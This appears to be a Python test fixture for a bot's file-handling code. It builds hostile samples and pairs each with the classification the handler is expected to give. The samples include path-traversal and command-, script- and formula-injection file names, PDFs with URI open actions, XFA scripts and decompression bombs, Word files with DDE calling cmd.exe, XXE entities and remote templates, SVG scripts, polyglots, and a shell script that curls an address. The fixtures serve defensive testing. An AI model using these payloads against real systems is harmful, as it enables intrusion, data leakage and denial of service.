"""Files that nobody means well by: names, and bytes that are traps. Some lead to an address, which is given: `at`."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping
from typing import Final

import av
import pypdf
from av.audio.stream import AudioStream
from pypdf.generic import DecodedStreamObject, DictionaryObject, NameObject, TextStringObject

from bot.files import found
from tests.bot import papers
from tests.bot.papers import LINES, PARAGRAPH
from tests.bot.test_drawn import trap

CANARY: Final = "Canarinette"  # in each name
NAMES: Final = (
    "../../../../tmp/{}.pdf", "..\\..\\windows\\{}.ini", "/etc/cron.d/{}", "file:///etc/{}", "C:\\{}\\con.pdf",
    "{}\0.pdf", "{}.pdf\0.exe", "{}\u202efdp.exe", "\u2066{}\u2069.pdf", "{}\u200b\ufeff.pdf", "CON.{}", "nul.{}.txt",
    "{}.pdf.exe", "{}.pdf.lnk", ".{}", "...{}...", "-rf {}", '{}"; filename="a.exe', "{}\r\nSet-Cookie: a=b.pdf",
    "{}\n\nHTTP/1.1 200 OK\n", "{};a=b.pdf", "{}%00%2e%2e%2f.pdf", "<script>alert('{}')</script>.pdf",
    '"><img src=x onerror=alert(1)>{}', "=cmd|' /C calc'!A0 {}.pdf", "$(reboot){}.pdf", "`{}`.pdf", "| {}.pdf",
    "{{{{7*7}}}}{}.pdf", "%s%n%(name)s{}.pdf", "\x1b[2J{}\x07.pdf", "e{}" + "\u0301" * 60, "{}\u2028.pdf",
    "{}" + "a" * 300 + ".pdf", "a" * 300 + "{}.pdf", "\u0633\u064a\u0631\u0629 {}.pdf", "{}\ud800.pdf", " {} ",
)  # fmt: skip


# ---------------------------------------------------------------- PDF


def still(make: Callable[[], bytes]) -> Make:
    """What leads nowhere."""
    return lambda _: make()


def with_objects(**catalog: object) -> bytes:
    """Our page, with more in its catalog."""
    writer, out = pypdf.PdfWriter(clone_from=io.BytesIO(papers.pdf())), io.BytesIO()
    for name, value in catalog.items():
        writer.root_object[NameObject(f"/{name}")] = value
    writer.write(out)
    return out.getvalue()


def xfa(at: str) -> bytes:
    """A form of XML that runs a script and sends what was filled in."""
    form = f'<xdp:xdp xmlns:xdp="x"><script>xfa.host.gotoURL("{at}")</script><submit target="{at}"/></xdp:xdp>'
    return with_objects(AcroForm=DictionaryObject({NameObject("/XFA"): TextStringObject(form)}))


def elsewhere(at: str) -> bytes:
    """A page whose action, on opening, goes to an address; its words are in a file that is elsewhere, too."""
    act = {NameObject("/S"): NameObject("/URI"), NameObject("/URI"): TextStringObject(at)}
    stream = DecodedStreamObject()
    stream[NameObject("/F")] = TextStringObject(at)
    return with_objects(OpenAction=DictionaryObject(act), Extra=stream)


def in_circles() -> bytes:
    """A drawing that draws itself, in a tree of pages that is its own child."""
    one = b"1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj 2 0 obj<</Type/Pages/Kids[3 0 R 2 0 R]/Count 9999>>endobj "
    two = (
        b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 4 0 R/Resources<</XObject<</X 5 0 R>>>>>>endobj "
    )
    three = b"4 0 obj<</Length 5>>stream\n/X Do\nendstream endobj 5 0 obj<</Type/XObject/Subtype/Form/BBox[0 0 9 9]"
    four = b"/Resources<</XObject<</X 5 0 R>>>>/Length 5>>stream\n/X Do\nendstream endobj\n"
    return b"%PDF-1.7\n" + one + two + three + four + b"trailer<</Root 1 0 R/Size 6>>\nstartxref\n0\n%%EOF"


def around() -> bytes:
    """A table of places that says its older one is itself."""
    made = papers.pdf()
    place = made.rindex(b"startxref")
    at = int(made[place:].split()[1])
    return made[:place].replace(b"trailer\n<<", b"trailer\n<< /Prev %d" % at) + made[place:]


def many_objects() -> bytes:
    """A stream of objects that says it holds a thousand million of them, and unfolds to 200 MB."""
    packed = zlib.compress(b"1 0 " * 50_000_000, 9)
    head = b"%%PDF-1.7\n7 0 obj<</Type/ObjStm/N 1000000000/First 9/Filter/FlateDecode/Length %d>>stream\n" % len(packed)
    return head + packed + b"\nendstream endobj\ntrailer<</Root 1 0 R/Size 9>>\nstartxref\n9\n%%EOF"


def deep() -> bytes:
    """A list in a list, a million deep."""
    return b"%PDF-1.7\n1 0 obj\n" + b"[" * 1_000_000 + b"\nendobj\ntrailer<</Root 1 0 R>>\nstartxref\n9\n%%EOF"


# ---------------------------------------------------------------- Word


def word(body: str = "", dtd: str = "", part: tuple[str, bytes] = ("word/fonts.xml", b"")) -> bytes:
    """Our words as a Word file, with more in them, or a part beside them."""
    lines, out = "".join(PARAGRAPH.format(line) for line in LINES), io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as pack:
        pack.writestr("word/document.xml", papers.XML.format(dtd=dtd, body=f"{body}{lines}"))
        pack.writestr(*part)
    return out.getvalue()


def relation(of: str, kind: str, at: str) -> tuple[str, bytes]:
    """What says that something of a part is at an address."""
    types = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    space = "http://schemas.openxmlformats.org/package/2006/relationships"
    one = f'<Relationship Id="r1" Type="{types}/{kind}" Target="{at}" TargetMode="External"/>'
    return f"word/_rels/{of}.xml.rels", f'<Relationships xmlns="{space}">{one}</Relationships>'.encode()


def field(code: str) -> str:
    """A field that is filled in when the file is opened."""
    return f'<w:p><w:fldSimple w:instr="{code}"><w:r><w:instrText>{code}</w:instrText></w:r></w:fldSimple></w:p>'


def twice() -> bytes:
    """A pack in which the part with the words is there twice, and names lead out of the folder."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as pack:
        for name in ("../../../../tmp/canary", "/tmp/canary", "C:\\canary", "word/document.xml"):  # noqa: S108 - a name
            pack.writestr(name, papers.XML.format(dtd="", body=PARAGRAPH.format("Faux")))
        pack.writestr(zipfile.ZipInfo("word/./document.xml"), b"x")
    return out.getvalue() + word()


# ---------------------------------------------------------------- pictures, sound


def wide(size: int = 60_000) -> bytes:
    """A picture of so many dots a side, in a hundred bytes."""
    head = struct.pack(">IIBBBBB", size, size, 8, 2, 0, 0, 0)
    parts = ((b"IHDR", head), (b"IDAT", zlib.compress(bytes(1000))), (b"IEND", b""))
    packed = (
        struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data)) for name, data in parts
    )
    return b"\x89PNG\r\n\x1a\n" + b"".join(packed)


def svg(at: str) -> bytes:
    """A drawing that is a program."""
    acts = f'<script>fetch("{at}")</script><image href="{at}"/>'
    return f'<svg xmlns="http://www.w3.org/2000/svg">{acts}</svg>'.encode()


def silence(seconds: int = 599) -> bytes:
    """A note in which nobody says a word."""
    out, rate = io.BytesIO(), 16_000
    with av.open(out, "w", format="flac") as file:
        stream = file.add_stream("flac", rate=rate)
        assert isinstance(stream, AudioStream)
        stream.layout = "mono"
        into = av.AudioResampler(stream.format.name, "mono", rate, frame_size=stream.frame_size)
        for n in range(seconds):
            frame = av.AudioFrame("s16", "mono", rate)
            frame.planes[0].update(bytes(2 * rate))
            frame.sample_rate, frame.pts = rate, n * rate
            for one in into.resample(frame):
                file.mux(stream.encode(one))
        file.mux(stream.encode(None))
    return out.getvalue()


def lying(data: bytes) -> bytes:
    """The same Ogg, whose pages say they end after a million years, and are whole by their own sum."""
    pages = [bytearray(b"OggS" + page) for page in data.split(b"OggS")[1:]]
    for page in pages:
        page[6:14], page[22:26] = struct.pack("<q", 2**60), bytes(4)
        page[22:26] = struct.pack("<I", _sum(page))
    return b"".join(pages)


def _sum(page: bytearray) -> int:
    """The sum of a page of Ogg (RFC 3533, 6)."""
    told = 0
    for byte in page:
        told ^= byte << 24
        for _ in range(8):
            told = (told << 1 ^ 0x04C11DB7 * (told >> 31)) & 0xFFFFFFFF
    return told


READ: Final = found.TEXT
NO_CV: Final = "former.none"  # what is said of words that are none
Make = Callable[[str], bytes]
Trap = tuple[Make, str]  # the bytes, and what is to come of them

PDFS: Final[Mapping[str, Trap]] = {
    "a PDF that runs, opens and hides": (still(trap), found.PICTURE),
    "a PDF with a form of XML": (xfa, READ),
    "a PDF that goes to an address": (elsewhere, READ),
    "a PDF in circles": (still(in_circles), found.BROKEN),
    "a PDF whose table is around itself": (still(around), READ),
    "a PDF of a thousand million objects": (still(many_objects), found.BROKEN),
    "a PDF of lists in lists": (still(deep), found.BROKEN),
    "a PDF with a password": (still(papers.locked), found.LOCKED),
    "a PDF that swells": (still(papers.swelling), found.PICTURE),
    "a PDF after a page of the web": (lambda _: b"<html><script>alert(1)</script>\n" + papers.pdf(), READ),
    "a PDF that is a zip, too": (lambda _: papers.pdf() + papers.word(), READ),
}  # fmt: skip
WORDS: Final[Mapping[str, Trap]] = {
    "Word with a template elsewhere": (
        lambda at: word(part=relation("settings", "attachedTemplate", at)), READ
    ),
    "Word with a frame and a part elsewhere": (
        lambda at: word('<w:altChunk xmlns:r="r" r:id="r1"/>', part=relation("document", "aFChunk", at)), READ
    ),
    "Word with DDE": (lambda _: word(field("DDEAUTO c:\\\\windows\\\\cmd.exe /k")), READ),
    "Word with a picture to fetch": (lambda at: word(field(f"INCLUDEPICTURE {at} \\d")), READ),
    "Word with a macro": (lambda _: word(part=("word/vbaProject.bin", b"\xd0\xcf\x11\xe0 AutoOpen")), READ),
    "Word with XML that laughs": (lambda _: word(PARAGRAPH.format("&i;"), papers.LAUGHS), found.STRANGE),
    "Word with XML that fetches": (
        lambda at: word(PARAGRAPH.format("&x;"), f'<!DOCTYPE x [<!ENTITY x SYSTEM "{at}">]>'), found.STRANGE
    ),
    "Word with a DTD elsewhere": (lambda at: word(dtd=f'<!DOCTYPE x SYSTEM "{at}">'), found.STRANGE),
    "Word with two parts of one name": (still(twice), READ),
    "Word that swells": (still(papers.bomb), found.PACKED),
    "a LibreOffice text that fetches": (
        lambda at: papers.open_text(
            f'<text:p>{LINES[3]}</text:p><draw:image xmlns:draw="d" xmlns:xlink="l" xlink:href="{at}"/>'
            f'<script:event-listener xmlns:script="s" script:language="ooo:script"/>'
        ), READ
    ),
}  # fmt: skip
OTHERS: Final[Mapping[str, Trap]] = {
    "a picture of 60 000 by 60 000": (still(wide), found.IMAGE),
    "a drawing with a script": (svg, found.STRANGE),
    "a page of the web that fetches": (lambda at: f'<!doctype html><img src="{at}">'.encode(), found.STRANGE),
    "a picture that is a script": (lambda _: b"GIF89a/*" + bytes(99) + b"*/=1;alert(1)", found.IMAGE),
    "a photo with a zip behind it": (lambda _: papers.image() + papers.bomb(5_000_000), found.IMAGE),
    "rich text with an object": (lambda _: b"{\\rtf1{\\object\\objautlink{\\*\\objdata 0105}}}", found.STRANGE),
    "a link of Windows": (lambda at: b"[InternetShortcut]\r\nURL=" + at.encode(), NO_CV),
    "a program": (still(papers.program), found.PROGRAM),
    "a script": (lambda at: b"#!/bin/sh\ncurl " + at.encode(), found.PROGRAM),
    "text a terminal obeys": (lambda _: ("\x1b[2J" + "\n".join(LINES * 3)).encode(), READ),
    "text that turns round": (lambda _: "\n".join(f"\u202e{line}\u2066" for line in LINES).encode(), READ),
}  # fmt: skip
CONTENTS: Final = {**PDFS, **WORDS, **OTHERS}
